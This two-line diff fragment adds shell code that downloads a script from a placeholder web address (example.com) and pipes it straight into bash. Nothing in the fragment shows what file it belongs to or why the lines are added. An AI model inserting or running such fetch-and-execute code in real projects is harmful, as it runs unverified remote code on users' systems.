@@ -1,0 +1,2 @@
+code=$(curl -s http://example.com/a.sh)
+echo "$code" | bash
